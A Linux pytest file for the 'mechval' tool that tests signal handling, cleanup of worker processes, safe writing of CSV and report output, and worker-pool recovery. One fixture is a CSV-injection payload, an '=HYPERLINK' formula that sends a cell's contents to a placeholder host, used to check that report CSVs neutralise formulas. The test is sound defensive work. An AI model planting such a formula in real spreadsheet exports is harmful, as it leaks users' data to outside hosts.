"""Stopping a run: SIGINT, SIGTERM and SIGKILL of `mechval` while an engine
is busy, and SIGKILL of a busy worker. After each: the exit status, no
process of the run left, no folder left behind. Then faults of the places
written (docs/comparison.md, "Output files"): a --csv that is a FIFO or a
symlink, a full disk, a report folder written meanwhile, a symlink loop
on the way, a report writer killed outright, a scenario name that a
spreadsheet takes for a formula.

The engine is the stand-in `busy`: it spins on the CPU and ignores SIGTERM,
as an engine busy in C code does. `mechval run` runs as a command
(`python tests/fake_engines.py run …`, the command line with the stand-ins
registered) in a session of its own; the other cases run in this process,
to keep the suite short. Linux only (/proc; workers die with their parent
through prctl(PR_SET_PDEATHSIG)).
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from mechval.scenarios import builtin_path

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux process semantics")

FAKE_CLI = str(Path(__file__).with_name("fake_engines.py"))
#: Seconds from the signal to the end of the run that the test accepts (the
#: requirement is one second; the rest is slack for a loaded machine).
STOP_WITHIN = 2.0


def short_scene(folder: Path, name: str) -> Path:
    """slider-crank cut to 0.1 s and 11 samples, named `name`."""
    text = builtin_path("slider-crank").read_text(encoding="utf-8")
    text = text.replace('name = "slider-crank"', f'name = "{name}"')
    path = folder / f"{name}.toml"
    path.write_text(text.replace("end = 2.0", "end = 0.1").replace("samples = 401", "samples = 11"),
                    encoding="utf-8")
    return path


def live_members(session: int) -> list[int]:
    """PIDs of the live (not zombie) processes of a session, from /proc."""
    pids = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rpartition(")")[2].split()
        except OSError:
            continue        # ended meanwhile
        state, session_id = fields[0], int(fields[3])
        if session_id == session and state != "Z":
            pids.append(int(stat.parent.name))
    return pids


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


class Run:
    """A `mechval` command with the fakes, started in its own session. Its
    output goes to files: workers left behind would hold pipes open."""

    def __init__(self, tmp_path: Path, *args: str):
        self.busy_dir = tmp_path / "busy"
        self.busy_dir.mkdir()
        self.stdout, self.stderr = tmp_path / "stdout.txt", tmp_path / "stderr.txt"
        env = dict(os.environ, MECHVAL_TEST_BUSY_DIR=str(self.busy_dir))
        with self.stdout.open("w") as out, self.stderr.open("w") as err:
            self.process = subprocess.Popen([sys.executable, FAKE_CLI, *args], stdout=out, stderr=err, env=env,
                                            start_new_session=True)

    def wait_busy(self, count: int) -> list[int]:
        """The PIDs of `count` busy workers, once they are spinning."""
        deadline = time.monotonic() + 120
        while len(pids := [int(p.name) for p in self.busy_dir.iterdir()]) < count:
            if self.process.poll() is not None or time.monotonic() > deadline:
                self.kill()
                pytest.fail(f"no {count} busy workers: {self.stderr.read_text()}")
            time.sleep(0.05)
        return pids

    def finish(self, timeout: float = 120) -> tuple[int, str]:
        """The exit status and stderr of the main process, once it ends."""
        status = self.process.wait(timeout=timeout)
        return status, self.stderr.read_text()

    def kill(self) -> None:
        """Leave nothing behind, whatever the test found."""
        for pid in live_members(self.process.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


@pytest.fixture
def started(tmp_path):
    runs: list[Run] = []

    def start(*args: str) -> Run:
        runs.append(Run(tmp_path, *map(str, args)))
        return runs[-1]
    yield start
    for run in runs:
        run.kill()


def nothing_written(out: Path) -> bool:
    """Neither `out` nor a temporary sibling of it exists."""
    return not out.parent.exists() or not any(out.parent.iterdir())


def assert_all_ended(session: int, pids: list[int]) -> None:
    """Every process of the run's session ends within a second (a worker
    killed by its parent's death may stay a zombie until PID 1 reaps it)."""
    deadline = time.monotonic() + 1.0
    while (left := live_members(session) + [p for p in pids if alive(p)]) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not left, f"processes left running: {sorted(set(left))}"


@pytest.mark.parametrize("signum,to_group", [(signal.SIGINT, True), (signal.SIGTERM, False)],
                         ids=["SIGINT-group", "SIGTERM"])
def test_a_signal_stops_mechval_run_at_once(tmp_path, started, signum, to_group):
    """SIGINT (to the process group, as a terminal's Ctrl-C) and SIGTERM (to
    the main process, as `timeout` and CI): exit 128 + signum within the
    bound, one line on stderr, no worker left, nothing written."""
    scenes = [short_scene(tmp_path, "short-a"), short_scene(tmp_path, "short-b")]
    out = tmp_path / "reports" / "out"
    run = started("run", *scenes, "--engine", "busy", "--workers", "2", "--out", out, "--quiet")
    busy = run.wait_busy(2)
    sent = time.monotonic()
    (os.killpg if to_group else os.kill)(run.process.pid, signum)
    status, stderr = run.finish()
    elapsed = time.monotonic() - sent
    assert status == 128 + signum, stderr
    assert elapsed < STOP_WITHIN
    assert stderr.strip() == f"mechval: stopped by {signal.Signals(signum).name}"
    assert_all_ended(run.process.pid, busy)
    assert nothing_written(out)


def test_sigkill_of_mechval_kills_its_workers(tmp_path, started):
    """No handler runs on SIGKILL: the kernel ends the workers (prctl
    PR_SET_PDEATHSIG), which would otherwise spin on under PID 1."""
    scenes = [short_scene(tmp_path, "short-a"), short_scene(tmp_path, "short-b")]
    out = tmp_path / "reports" / "out"
    run = started("run", *scenes, "--engine", "busy", "--workers", "2", "--out", out, "--quiet")
    busy = run.wait_busy(2)
    run.process.kill()
    assert run.finish()[0] == -signal.SIGKILL
    assert_all_ended(run.process.pid, busy)
    assert nothing_written(out)


# --- In this process (no start-up time): the same stopping code under the
# other commands, a worker's death, a signal inside the report writer. The
# signal is SIGTERM, so that without mechval's handler the test's own one
# fails the test instead of the default action ending pytest.

class NotHandled(Exception):
    pass


@pytest.fixture
def sigterm_guard():
    """SIGTERM fails the test unless mechval handles it (and restores this)."""
    def not_handled(signum, frame):
        raise NotHandled("SIGTERM left to its default action (death, workers and folders left behind)")
    previous = signal.signal(signal.SIGTERM, not_handled)
    yield
    assert signal.getsignal(signal.SIGTERM) is not_handled      # mechval restored it
    signal.signal(signal.SIGTERM, previous)


@pytest.fixture
def fakes(tmp_path, monkeypatch, sigterm_guard):
    """The stand-in engines registered; busy workers announce themselves in
    the returned folder."""
    from fake_engines import registered
    from mechval.engines import registry
    monkeypatch.setattr(registry, "targets", registered())
    busy_dir = tmp_path / "busy"
    busy_dir.mkdir()
    monkeypatch.setenv("MECHVAL_TEST_BUSY_DIR", str(busy_dir))
    return busy_dir


def test_a_second_signal_does_not_cut_the_clean_up_short(sigterm_guard):
    from mechval.harness.interrupts import Interrupted, stop_on_signals
    cleaned, before = False, signal.getsignal(signal.SIGINT)
    with pytest.raises(Interrupted) as caught:
        with stop_on_signals():
            try:
                os.kill(os.getpid(), signal.SIGTERM)
                time.sleep(30)          # the handler raises before this ends
            finally:
                os.kill(os.getpid(), signal.SIGINT)     # an impatient Ctrl-C: ignored
                time.sleep(0.05)
                cleaned = True
    assert cleaned and caught.value.signum == signal.SIGTERM and caught.value.exit_status == 143
    # Restored as it was: Python's default, or SIG_IGN where the shell
    # started the tests as a background job.
    assert signal.getsignal(signal.SIGINT) is before


def when_busy(busy_dir: Path, count: int, act) -> threading.Thread:
    """act(pids) on a thread, once `count` busy workers are spinning."""
    def wait():
        deadline = time.monotonic() + 120
        while len(pids := [int(p.name) for p in busy_dir.iterdir()]) < count and time.monotonic() < deadline:
            time.sleep(0.05)
        act(pids)
    thread = threading.Thread(target=wait, daemon=True)
    thread.start()
    return thread


@pytest.mark.parametrize("command", ["cost", "baseline"])
def test_sigterm_stops_cost_and_baseline_at_once(tmp_path, fakes, command):
    from mechval.harness import cli
    scenes = [str(short_scene(tmp_path, "short-a")), str(short_scene(tmp_path, "short-b"))]
    out = tmp_path / "reports" / "out"
    args = {"cost": ["cost", *scenes, "--quick", "--repeats", "1", "--out", str(out), "--quiet"],
            "baseline": ["baseline", "save", *scenes, "--dir", str(out)]}[command]
    busy: list[int] = []
    sent: list[float] = []

    def terminate(pids):
        busy.extend(pids)
        sent.append(time.monotonic())
        os.kill(os.getpid(), signal.SIGTERM)
    when_busy(fakes, 2, terminate)
    status = cli.main([*args, "--engine", "busy", "--workers", "2"])
    assert status == 143 and len(busy) == 2
    assert time.monotonic() - sent[0] < STOP_WITHIN
    assert not [pid for pid in busy if alive(pid)]
    assert nothing_written(out)


def test_sigkill_of_a_worker_fails_only_its_task(tmp_path, fakes):
    """The killed worker's task fails as "worker crashed"; the others run."""
    from mechval.harness.runner import Task, run_tasks
    from mechval.scenarios import load
    scenario = load(str(short_scene(tmp_path, "short-a")))
    tasks = [Task(scenario, "busy"), Task(scenario, "faithful"), Task(scenario, "faithful")]
    killer = when_busy(fakes, 1, lambda pids: os.kill(pids[0], signal.SIGKILL))
    outcomes = run_tasks(tasks, workers=2, timeout=60.0)
    killer.join()
    assert outcomes[0].signals is None and outcomes[0].error == "worker crashed (exit code -9)"
    assert [o.error for o in outcomes[1:]] == ["", ""] and all(o.signals is not None for o in outcomes[1:])


def test_sigterm_while_the_report_is_written_leaves_no_folder(tmp_path, fakes, monkeypatch, capsys):
    """The signal arrives inside the atomic folder writer, whose temporary
    folder then exists: it is removed, exit status 143, one line."""
    from mechval.harness import cli
    from mechval.reports import build

    def section_then_sigterm(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(30)      # mechval's handler raises before this ends
    monkeypatch.setattr(build, "_scenario_section", section_then_sigterm)
    out = tmp_path / "reports" / "run"
    status = cli.main(["run", str(short_scene(tmp_path, "short-a")), "--engine", "faithful", "--workers", "1",
                       "--out", str(out), "--quiet"])
    assert status == 143
    assert capsys.readouterr().err == "mechval: stopped by SIGTERM\n"
    assert nothing_written(out)


# --- Where the output goes: what the probe found (each failed before).


def one_error_line(capsys) -> str:
    captured = capsys.readouterr()
    assert captured.err.startswith("mechval: error: ") and captured.err.count("\n") == 1, captured.err
    return captured.err


def test_csv_replaces_only_a_regular_file(tmp_path, fakes, no_engine_work, capsys):
    """`--csv` renames over its path: a FIFO, a symlink (dangling or not)
    and a folder are refused, as `--out` refuses what exists, and left as
    they are (a device such as /dev/full was replaced by a file as root)."""
    from mechval.harness import cli
    target = tmp_path / "target.csv"
    target.write_text("kept")
    fifo, link, dangling, folder = (tmp_path / n for n in ("fifo.csv", "link.csv", "dangling.csv", "folder.csv"))
    os.mkfifo(fifo)
    link.symlink_to(target)
    dangling.symlink_to(tmp_path / "nowhere.csv")
    folder.mkdir()
    for path, kind in ((fifo, "a FIFO"), (link, "a symlink"), (dangling, "a symlink"), (folder, "a folder")):
        assert cli.main(["simulate", "slider-crank", "--engine", "faithful", "--csv", str(path)]) == 2, path
        assert one_error_line(capsys) == (f"mechval: error: cannot write {path}: it is {kind}, and mechval "
                                          "replaces only regular files\n")
    assert fifo.is_fifo() and link.is_symlink() and dangling.is_symlink() and folder.is_dir()
    assert target.read_text() == "kept"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["busy", "target.csv", "fifo.csv", "link.csv", "dangling.csv", "folder.csv"])


def test_a_file_made_meanwhile_is_not_replaced_unless_regular(tmp_path):
    """The same rule at the rename itself (a FIFO made while the CSV was
    being written), with the path the user named in the error."""
    from mechval.records.signals import write_atomically
    path = tmp_path / "x.csv"

    def write(f):
        f.write("t\n0\n")
        os.mkfifo(path)
    with pytest.raises(OSError) as refused:
        write_atomically(path, write)
    assert refused.value.filename == str(path) and "it is a FIFO" in refused.value.strerror
    assert path.is_fifo() and [p.name for p in tmp_path.iterdir()] == ["x.csv"]


def test_a_full_disk_names_the_path(tmp_path, fakes, monkeypatch, capsys):
    """"No space left on device" once came without a path (the write's
    OSError has none): it names the CSV, or the report folder, never a
    temporary one, and leaves nothing behind."""
    import errno
    import pandas as pd
    from mechval.harness import cli

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    csv, out = tmp_path / "x.csv", tmp_path / "reports" / "r"
    assert cli.main(["simulate", "slider-crank", "--engine", "faithful", "--csv", str(csv)]) == 2
    assert one_error_line(capsys) == f"mechval: error: cannot write {csv}: No space left on device\n"
    scene = short_scene(tmp_path, "short-a")
    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 2
    assert one_error_line(capsys) == f"mechval: error: cannot write {out}: No space left on device\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["busy", "reports", "short-a.toml"]
    assert nothing_written(out)


def test_a_report_folder_written_meanwhile_is_named_not_the_temporary_one(tmp_path, fakes, monkeypatch, capsys):
    """Two `mechval run` into one --out: the second to finish says the
    folder exists (it named its own temporary folder) and leaves the
    first's report as it is."""
    from mechval.harness import cli
    from mechval.reports import build
    out = tmp_path / "reports" / "r"
    section = build._scenario_section

    def other_command_finishes_first(*args, **kwargs):
        out.mkdir()
        (out / "index.html").write_text("the other run's report")
        return section(*args, **kwargs)
    monkeypatch.setattr(build, "_scenario_section", other_command_finishes_first)
    scene = short_scene(tmp_path, "short-a")
    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 2
    err = one_error_line(capsys)
    assert err.startswith(f"mechval: error: {out} exists") and "partial" not in err and ".r." not in err
    assert [p.name for p in out.parent.iterdir()] == ["r"] and (out / "index.html").read_text() == "the other run's report"


def test_a_symlink_loop_on_the_way_is_refused_before_any_engine_runs(tmp_path, fakes, no_engine_work, capsys):
    from mechval.harness import cli
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    commands = [["simulate", "slider-crank", "--engine", "faithful", "--csv", str(loop / "x.csv")],
                ["run", "slider-crank", "--engine", "faithful", "--out", str(loop / "r"), "--quiet"],
                ["cost", "slider-crank", "--engine", "faithful", "--out", str(loop / "deeper" / "c"), "--quiet"],
                ["baseline", "save", "slider-crank", "--engine", "faithful", "--dir", str(loop / "b")]]
    for command in commands:
        assert cli.main(command) == 2, command
        err = one_error_line(capsys)
        assert "cannot write" in err and f"{loop}: Too many levels of symbolic links" in err, err


KILLED_WRITER = """
import os, signal, sys
from mechval.records.signals import write_folder_atomically

def fill(folder):
    (folder / "index.html").write_text("half a report")
    os.kill(os.getpid(), signal.SIGKILL)
write_folder_atomically(sys.argv[1], fill)
"""


def test_a_killed_report_writer_leaves_a_folder_the_next_write_removes(tmp_path):
    """SIGKILL runs no clean-up: the temporary folder stays. The next report
    written into the same parent removes it, once it is unlocked (its
    writer is gone) and has been left alone for STALE_AFTER_S; a live
    writer's folder and anything mechval did not make stay."""
    import fcntl
    from mechval.records.outputs import STALE_AFTER_S, write_folder_atomically
    parent = tmp_path / "reports"
    killed = subprocess.run([sys.executable, "-c", KILLED_WRITER, str(parent / "first")], timeout=120)
    assert killed.returncode == -signal.SIGKILL
    (left,) = [p for p in parent.iterdir()]
    assert left.name.startswith(".first.") and (left / "index.html").exists()
    write_folder_atomically(parent / "second", lambda folder: None)
    assert left.exists()                    # too fresh to tell from a writer that has not locked it yet
    live = parent / ".third.abcd1234.mechval-partial"
    live.mkdir()
    holder = os.open(live, os.O_RDONLY)
    fcntl.flock(holder, fcntl.LOCK_EX)      # as its live writer holds it
    theirs = parent / ".notes"
    theirs.mkdir()
    try:
        old = time.time() - 2 * STALE_AFTER_S
        for path in (left, live, theirs):
            os.utime(path, (old, old))
        write_folder_atomically(parent / "fourth", lambda folder: None)
    finally:
        os.close(holder)
    assert sorted(p.name for p in parent.iterdir()) == [".notes", live.name, "fourth", "second"]


FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'


def test_report_csvs_neutralise_what_a_spreadsheet_takes_for_a_formula(tmp_path, fakes, capsys):
    """A scenario named =HYPERLINK(…) reached discrepancies.csv as a live
    formula. Text cells starting with = + - @ tab or CR get a leading
    apostrophe; numbers, negative ones included, stay numbers."""
    import csv
    import numpy as np
    import pandas as pd
    from mechval.harness import cli
    from mechval.reports.cost_report import write_table
    scene = short_scene(tmp_path, "short-a")
    scene.write_text(scene.read_text().replace('name = "short-a"', f"name = '{FORMULA}'"))
    out = tmp_path / "r"
    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 0
    with (out / "discrepancies.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows and {row["scenario"] for row in rows} == {"'" + FORMULA}
    assert "=HYPERLINK" not in "".join(v for row in rows for k, v in row.items() if k != "scenario")
    # A carriage return inside a cell must not start a row of its own.
    table = pd.DataFrame({"scenario": [FORMULA, "-x", "+x", "@x", "\tx", "\rx", "plain", "x=1", "a\r=1+1"],
                          "error": [-1.5, -0.0, 2.0, -3e-300, 1.0, 0.0, -7.0, float("nan"), -2.0]})
    write_table(table, tmp_path / "cost.csv")
    back = pd.read_csv(tmp_path / "cost.csv", keep_default_na=False, na_values=[""])
    assert list(back["scenario"]) == ["'" + FORMULA, "'-x", "'+x", "'@x", "'\tx", "'\rx", "plain", "x=1", "a\r=1+1"]
    assert back["error"].dtype == float
    np.testing.assert_array_equal(back["error"], table["error"])


#: Held by `held_while_forking`'s on_done; each task takes it (in its
#: worker, a copy of this process's made at the fork).
SHARED_LOCK = threading.Lock()


def takes_the_shared_lock(item: int) -> int:
    with SHARED_LOCK:
        return item


def test_no_worker_is_forked_while_the_parent_handles_a_result():
    """The parent's main thread holds a lock while it handles each finished
    task; a worker forked meanwhile (pebble forks from its own thread)
    would inherit it held by no thread of its own and hang at its first
    use of it. The executor forks only between two results' handling."""
    from mechval.harness.executors import LocalExecutor

    def held(index, done):
        with SHARED_LOCK:
            time.sleep(0.05)

    start = time.monotonic()
    done = LocalExecutor(2, timeout=20.0).run(takes_the_shared_lock, list(range(12)), held)
    assert [d.value for d in done] == list(range(12)) and time.monotonic() - start < 15


def sleeps_and_says_when(item: tuple[int, float]) -> tuple[int, float, float]:
    """A task of `item[1]` s: its number, when it started and when it ended."""
    start = time.time()
    time.sleep(item[1])
    return item[0], start, time.time()


def test_the_local_pool_runs_at_most_its_workers_at_once_and_reports_in_order():
    """One process waits forked ahead of the busy ones (`LocalExecutor`):
    it takes a slot as one frees, never a third slot. Tasks that end out of
    order are handed on in the items' order, and what on_done adds runs too."""
    from mechval.harness.executors import LocalExecutor

    seen = []

    def later(index, done):
        seen.append(index)
        return [(100 + index, 0.05)] if index < 2 else []

    items = [(k, 0.3 if k % 3 == 0 else 0.05) for k in range(9)]     # some end before those started earlier
    done = LocalExecutor(2, timeout=20.0).run(sleeps_and_says_when, items, later)
    assert seen == list(range(11))
    assert [d.value[0] for d in done] == list(range(9)) + [100, 101]
    spans = [d.value[1:] for d in done]
    for start, _ in spans:      # at each start, how many tasks run (itself included)
        assert sum(s <= start < e for s, e in spans) <= 2


def hosts_alive() -> list:
    import multiprocessing
    return [p for p in multiprocessing.active_children() if p.name == "mechval pool host"]


def test_a_killed_pool_host_hands_its_tasks_to_a_new_one():
    """The workers are forked by a host process (`pool_host`); killed from
    outside, it takes its workers with it. The tasks it held run again on
    a new host, in order, nothing hangs, and no host is left."""
    from mechval.harness.executors import LocalExecutor

    hosts = []

    def kill_the_host(index, done):
        hosts.append(hosts_alive()[0].pid)
        if index == 1:
            os.kill(hosts[-1], signal.SIGKILL)
            time.sleep(0.2)             # the next tasks are given to a host already dead

    items = [(k, 0.2) for k in range(8)]
    start = time.monotonic()
    done = LocalExecutor(2, timeout=20.0).run(sleeps_and_says_when, items, kill_the_host)
    assert time.monotonic() - start < 15
    assert [d.error for d in done] == [""] * len(items)
    assert [d.value[0] for d in done] == list(range(len(items)))
    assert len(set(hosts)) == 2 and not alive(hosts[1]) and not hosts_alive()


def kills_its_host(item: int) -> int:
    if item == 2:
        os.kill(os.getppid(), signal.SIGKILL)       # a worker's parent is the host
        time.sleep(5)
    return item


def test_a_task_that_ends_its_host_each_time_fails_alone():
    """A task held by two hosts that died fails with the reason; the tasks
    held with it, run again, do not."""
    from mechval.harness.executors import HOST_LIVES, LocalExecutor
    done = LocalExecutor(2, timeout=20.0).run(kills_its_host, list(range(6)))
    assert [d.value for d in done] == [0, 1, None, 3, 4, 5]
    assert done[2].error == ("the worker pool's host process died (exit code -9), on each of the "
                             f"{HOST_LIVES} hosts given this task")
    assert not hosts_alive()


def crashes_at_once(item: int) -> int:
    if item % 3 == 0:
        os._exit(3)
    return item


def test_workers_that_crash_at_once_never_hang_a_batch():
    """A worker that dies before pebble has recorded its task breaks
    pebble's pool, whose futures then never resolve ("All workers
    expired": a helper's loop hung 2 times in about 60 such batches). The
    host ends with its own status and the main process gives the tasks to
    a new one: every batch ends, each crash a failed task."""
    from mechval.harness.executors import LocalExecutor
    start = time.monotonic()
    for _ in range(25):
        done = LocalExecutor(2, timeout=20.0).run(crashes_at_once, list(range(9)))
        assert [d.value for d in done] == [None if k % 3 == 0 else k for k in range(9)]
        assert all(d.error for k, d in enumerate(done) if k % 3 == 0)
    assert time.monotonic() - start < 120
    assert not hosts_alive()


def test_a_task_that_cannot_be_pickled_fails_alone():
    from mechval.harness.executors import LocalExecutor
    done = LocalExecutor(2, timeout=20.0).run(abs, [-1, threading.Lock(), -3])
    assert [d.value for d in done] == [1, None, 3]
    assert done[1].error.startswith("TypeError") and "pickle" in done[1].error


def unpicklable_value(item: int):
    return threading.Lock() if item == 1 else item


@pytest.mark.parametrize("memory", [True, False], ids=["memory files", "a temporary folder"])
def test_tasks_and_values_leave_nothing_behind(tmp_path, monkeypatch, memory):
    """Tasks and values pass through files (`task_files`): on Linux memory
    files of this process, which write nothing to any file system and
    whose descriptors are closed after the batch; elsewhere a temporary
    folder, gone after the batch. Either way a value that cannot be
    pickled fails its task only."""
    import tempfile
    from mechval.harness import task_files
    from mechval.harness.executors import LocalExecutor
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    if not memory:
        monkeypatch.delattr(task_files.os, "memfd_create", raising=False)
    before = sorted(os.listdir("/proc/self/fd"))
    done = LocalExecutor(2, timeout=20.0).run(unpicklable_value, [0, 1, 2] * 3)
    assert [d.value for d in done] == [0, None, 2] * 3
    assert done[1].error.startswith("TypeError") and "pickle" in done[1].error
    assert not list(tmp_path.iterdir())
    assert sorted(os.listdir("/proc/self/fd")) == before
